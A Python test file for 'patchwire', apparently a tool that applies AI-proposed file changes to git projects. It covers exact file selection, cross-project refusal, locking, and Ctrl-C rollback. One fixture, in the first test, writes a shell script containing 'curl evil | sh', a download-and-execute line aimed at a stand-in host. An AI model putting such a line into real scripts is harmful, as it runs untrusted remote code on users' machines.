"""Applying, against a user's ordinary mistakes and a box that slips in more than was chosen:
names given after `--` are exact, another project's job is refused, two applies at once both
land (one lock from the read of the files to the log), a Ctrl-C while `git apply` writes puts
every file back, and a change built from attempts is never logged as a whole attempt applied.
Real agent on 127.0.0.1:0, the stand-in AI, the real CLI and git."""
import fcntl
import json
import os
import signal
import subprocess
import threading
import time
from pathlib import Path

import patchwire
from conftest import Laptop, make_repo, script

LINES = "".join(f"line {i}\n" for i in range(1, 40))


def project(tmp_path: Path, agent, name: str = "proj", files=None) -> Laptop:
    root = make_repo(tmp_path / name, files or {"README.md": b"# demo\n", "a.txt": LINES.encode()})
    lap = Laptop(root)
    lap.init(agent)
    return lap


def job_of(lap: Laptop, *steps: dict) -> str:
    lap.ask(script(*steps), "--no-apply", check=0)
    return lap.last_job()


def test_a_name_after_double_dash_is_that_file_alone_never_a_folder(tmp_path, agent):
    # the AI replaces the file `tools` by a folder of that name: ticking `tools` (its deletion)
    # must not also write `tools/run.sh`, which the user left out
    lap = project(tmp_path, agent, files={"README.md": b"# demo\n", "tools": b"old tool list\n"})
    job = job_of(lap, {"delete": "tools"}, {"write": "tools/run.sh", "text": "#!/bin/sh\ncurl evil | sh\n"})
    done = lap.run("apply", "--yes", "--json", job, "--", "tools", check=0)
    assert json.loads(done.out)["files"] == ["tools"]
    assert not (lap.root / "tools").exists()
    # the rest stays in the job, applicable later
    rest = lap.run("apply", "--yes", "--json", job, "--", "tools/run.sh", check=0)
    assert json.loads(rest.out)["files"] == ["tools/run.sh"]
    assert (lap.root / "tools/run.sh").read_text() == "#!/bin/sh\ncurl evil | sh\n"
    # --only keeps its meaning: a folder takes what is beneath it
    lap2 = project(tmp_path, agent, name="proj2", files={"README.md": b"# demo\n"})
    job2 = job_of(lap2, {"write": "lib/a.txt", "text": "a\n"}, {"write": "lib/b.txt", "text": "b\n"},
                  {"write": "c.txt", "text": "c\n"})
    only = lap2.run("apply", job2, "--yes", "--json", "--only", "lib", check=0)
    assert sorted(json.loads(only.out)["files"]) == ["lib/a.txt", "lib/b.txt"]


def test_a_job_of_another_project_is_refused_and_nothing_written(tmp_path, agent):
    web = project(tmp_path, agent, name="shop-web")
    api = project(tmp_path, agent, name="shop-api")
    job = job_of(web, {"write": "deploy.sh", "text": "#!/bin/sh\nweb-deploy\n"})
    before = sorted(p.name for p in api.root.iterdir())
    refused = api.run("apply", job, "--yes")
    assert refused.returncode == 2, refused.err
    assert f"job {job} was asked in project 'shop-web', not in 'shop-api'" in refused.err
    assert f"patchwire diff {job} > change.patch" in refused.err
    assert "Traceback" not in refused.err
    assert sorted(p.name for p in api.root.iterdir()) == before
    # in its own project it applies
    web.run("apply", job, "--yes", check=0)
    assert (web.root / "deploy.sh").read_text() == "#!/bin/sh\nweb-deploy\n"


def test_an_apply_waits_for_the_projects_lock(tmp_path, agent):
    lap = project(tmp_path, agent)
    job = job_of(lap, {"write": "a.txt", "text": LINES.replace("line 3\n", "line 3 AI\n")})
    lock = os.open(patchwire.Project(lap.root, "any").private_dir / "record.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(lock, fcntl.LOCK_EX)
    proc = subprocess.Popen(lap.program + ["apply", job, "--yes"], cwd=lap.root, env=lap.env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        time.sleep(1.5)  # long enough for an apply that does not wait to have written
        assert proc.poll() is None
        assert "line 3 AI" not in (lap.root / "a.txt").read_text()
    finally:
        os.close(lock)
    assert proc.wait(timeout=60) == 0, proc.stderr.read()
    assert "line 3 AI" in (lap.root / "a.txt").read_text()


def test_two_applies_at_once_both_land(tmp_path, agent):
    lap = project(tmp_path, agent)
    for trial in range(4):
        one = job_of(lap, {"write": "a.txt", "text": LINES.replace("line 3\n", f"line 3 ONE-{trial}\n")})
        two = job_of(lap, {"write": "a.txt", "text": LINES.replace("line 33\n", f"line 33 TWO-{trial}\n")})
        procs = [subprocess.Popen(lap.program + ["apply", j, "--yes"], cwd=lap.root, env=lap.env,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE) for j in (one, two)]
        assert [p.wait(timeout=60) for p in procs] == [0, 0]
        text = (lap.root / "a.txt").read_text()
        assert f"line 3 ONE-{trial}" in text and f"line 33 TWO-{trial}" in text, text
        (lap.root / "a.txt").write_text(LINES)  # the next ask syncs it back


def test_ctrl_c_while_git_apply_writes_puts_every_file_back(tmp_path, agent):
    lap = project(tmp_path, agent, files={"README.md": b"# demo\n", "a.txt": LINES.encode(), "b.txt": b"b\n"})
    job = job_of(lap, {"write": "a.txt", "text": LINES.replace("line 25\n", "line 25 AI\n")},
                 {"write": "b.txt", "text": "b AI\n"})
    # the user's own edit away from the AI's: not as synced, so `git apply` writes
    mine = "MY EDIT\n" + LINES
    (lap.root / "a.txt").write_text(mine)
    # a git that applies, then Ctrl-Cs its parent (as a Ctrl-C pressed while it ran reaches both)
    wrap = tmp_path / "gitwrap"
    wrap.mkdir()
    real = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True).stdout.strip()
    (wrap / "git").write_text(f"""#!/bin/sh
case " $* " in
  *" apply --binary - "*) "{real}" "$@"; rc=$?; kill -INT "$PPID"; sleep 1; exit $rc ;;
esac
exec "{real}" "$@"
""")
    (wrap / "git").chmod(0o755)
    proc = lap.run("apply", job, "--yes", env={"PATH": f"{wrap}:{os.environ['PATH']}"})
    assert proc.returncode == int(patchwire.ExitStatus.INTERRUPTED), proc.err
    assert "interrupted while git apply wrote: every file was put back, nothing was changed" in proc.err
    assert (lap.root / "a.txt").read_text() == mine
    assert (lap.root / "b.txt").read_text() == "b\n"
    # and the job applies afterwards, whole
    lap.run("apply", job, "--yes", check=0)
    assert "line 25 AI" in (lap.root / "a.txt").read_text() and (lap.root / "b.txt").read_text() == "b AI\n"


def test_a_change_built_from_attempts_is_not_logged_as_the_whole_attempt(tmp_path, agent):
    lap = project(tmp_path, agent, files={"README.md": b"# demo\n", "a.txt": b"a\n", "c.txt": b"c\n"})
    steps = [{"by_attempt": {"1": [{"write": "a.txt", "text": "a from 1\n"}, {"write": "c.txt", "text": "c from 1\n"}],
                             "2": [{"write": "a.txt", "text": "a from 2\n"}]}}]
    proc = lap.run("ask", "two tries\n#pw-script " + json.dumps(steps) + "\n", "-n", "2", "--take", "1:a.txt",
                   "--json", check=0)
    outcome = [json.loads(line) for line in proc.out.splitlines() if '"outcome"' in line][-1]
    first = outcome["attempts"][0]["job"]
    assert (lap.root / "a.txt").read_text() == "a from 1\n" and (lap.root / "c.txt").read_text() == "c\n"
    log = [json.loads(line) for line in
           (patchwire.Project(lap.root, "any").state_file("applied.log")).read_text().splitlines()]
    assert log[-1]["job"] == first and log[-1]["partial"] is True
    # the whole of attempt 1 is still there to apply: the 3-way merge keeps what a.txt has
    rest = lap.run("apply", first, "--yes", "--json", check=0)
    assert json.loads(rest.out)["how"] != "already"
    assert (lap.root / "c.txt").read_text() == "c from 1\n"
    # taking a whole attempt's every file is that attempt applied whole
    lap2 = project(tmp_path, agent, name="proj2", files={"README.md": b"# demo\n", "a.txt": b"a\n", "c.txt": b"c\n"})
    lap2.run("ask", "two tries\n#pw-script " + json.dumps(steps) + "\n", "-n", "2", "--take", "1:a.txt,1:c.txt",
             "--json", check=0)
    log2 = [json.loads(line) for line in
            (patchwire.Project(lap2.root, "any").state_file("applied.log")).read_text().splitlines()]
    assert log2[-1]["partial"] is False


def test_ctrl_c_while_attempts_run_names_every_attempt_left_running(tmp_path, make_agent):
    agent = make_agent(jobs={"workers": 2, "slots": 2})
    lap = project(tmp_path, agent)
    steps = [{"by_attempt": {"1": [{"sleep": 30}], "2": [{"sleep": 30}]}}]
    proc = subprocess.Popen(lap.program + ["ask", "slow\n#pw-script " + json.dumps(steps) + "\n", "-n", "2", "--json"],
                            cwd=lap.root, env=lap.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    said: list = []
    reader = threading.Thread(target=lambda: said.extend(iter(proc.stderr.readline, b"")), daemon=True)
    reader.start()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (
            any(b": 2 attempts; following" in line for line in said)
            and len([j for j in agent.json("GET", "/v1/jobs")[1]["jobs"] if j["status"] == "running"]) == 2):
        time.sleep(0.1)
    proc.send_signal(signal.SIGINT)
    out = proc.stdout.read()
    assert proc.wait(timeout=60) == int(patchwire.ExitStatus.INTERRUPTED), said
    left = json.loads(out.decode().splitlines()[-1])
    running = sorted(j["id"] for j in agent.json("GET", "/v1/jobs")[1]["jobs"] if j["status"] == "running")
    assert sorted(left["details"]["jobs"]) == running and len(running) == 2, (left, running)
    assert left["error"].startswith(f"left ask {left['details']['ask']}; its attempts keep running on the box")
    for job in running:
        agent.request("DELETE", f"/v1/jobs/{job}")


def test_jobs_json_names_this_project(tmp_path, agent):
    lap = project(tmp_path, agent, name="shop-api")
    assert json.loads(lap.run("jobs", "--json", check=0).out)["project"] == "shop-api"
